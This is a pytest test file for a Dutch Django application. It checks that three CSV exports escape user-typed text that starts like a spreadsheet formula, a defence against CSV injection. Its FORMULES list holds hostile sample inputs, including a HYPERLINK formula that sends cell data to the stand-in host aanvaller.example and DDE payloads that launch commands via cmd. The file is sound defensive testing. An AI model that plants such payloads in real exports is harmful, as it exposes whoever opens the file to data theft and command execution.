"""Every CSV export, end to end: text typed by a duo, a deelnemer or the kernteam never starts a formula.

One test per export (open data per version, the kernteam's reacties, the betrokkenheid), each with
every formula start a spreadsheet acts on (OWASP "CSV injection"): = + - @, a tab and a carriage
return. Each export must come out of kern.csv, whose cells start with an apostrophe then.
"""

import csv
import io

import pytest
from django.urls import reverse

from kern.csv import FORMULE_BEGIN
from publicatie.services import versie_aanmaken, versie_publiceren
from tests.opgaven.factories import ActieFactory
from tests.publicatie.conftest import agenda_met_inhoud_maken
from tests.publicatie.factories import ReactieFactory, VersieFactory
from tests.tafels.factories import BijeenkomstFactory, DeelnameFactory, GesprekstafelFactory

pytestmark = pytest.mark.django_db

FORMULES = [
    '=HYPERLINK("https://aanvaller.example/?d="&A1;"klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
]


def _cellen(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def _geen_formule(rijen):
    """No cell of the file starts as a formula (an escaped one starts with the apostrophe)."""
    for rij in rijen:
        for cel in rij:
            assert not cel.startswith(FORMULE_BEGIN), repr(cel)


def test_opendata_csv_van_een_versie(client, settings, tmp_path):
    """GET /<agenda>/versies/<n>/csv/ with acties whose omschrijving a duo typed as a formula."""
    settings.MEDIA_ROOT = tmp_path
    agenda = agenda_met_inhoud_maken()
    opgave = agenda.opgaven.get(volgnummer=1)
    for formule in FORMULES:
        ActieFactory(opgave=opgave, omschrijving=formule, vervolgtafel=formule)
    versie = versie_publiceren(versie=versie_aanmaken(agenda=agenda, label="Eerste concept"), pdf_maken=False)
    rijen = _cellen(client.get(reverse("publicatie:csv", kwargs={"agenda": agenda.slug, "nummer": versie.nummer})))
    kop = rijen[0]
    omschrijvingen = {rij[kop.index("actie_omschrijving")] for rij in rijen[1:]}
    vervolgtafels = {rij[kop.index("actie_vervolgtafel")] for rij in rijen[1:]}
    for formule in FORMULES:
        assert f"'{formule}" in omschrijvingen
        assert f"'{formule}" in vervolgtafels
    _geen_formule(rijen)


def test_reacties_csv_van_het_kernteam(client, kernteam_user):
    """GET /<agenda>/versies/reacties/csv/ with reacties whose text a deelnemer typed as a formula."""
    versie = VersieFactory()
    for formule in FORMULES:
        ReactieFactory(versie=versie, tekst=formule, antwoord=formule)
    client.force_login(kernteam_user)
    rijen = _cellen(client.get(reverse("publicatie:reacties_csv", kwargs={"agenda": versie.agenda.slug})))
    kop = rijen[0]
    teksten = {rij[kop.index("tekst")] for rij in rijen[1:]}
    assert teksten == {f"'{formule}" for formule in FORMULES}
    _geen_formule(rijen)


def test_betrokkenheid_csv(client, kernteam_user, agenda_factory):
    """GET /<agenda>/leerspoor/kernteam/betrokkenheid/csv/ with gesprekstafels named like formulas."""
    agenda = agenda_factory(slug="oost")
    for formule in FORMULES:
        tafel = GesprekstafelFactory(agenda=agenda, titel=formule)
        DeelnameFactory(bijeenkomst=BijeenkomstFactory(agenda=agenda, gesprekstafel=tafel))
    client.force_login(kernteam_user)
    rijen = _cellen(client.get(reverse("leerspoor:betrokkenheid_csv", kwargs={"agenda": agenda.slug})))
    groepen = [rij[0] for rij in rijen[1:]]
    for formule in FORMULES:
        assert f"Gesprekstafel: {formule}" in groepen
    _geen_formule(rijen)
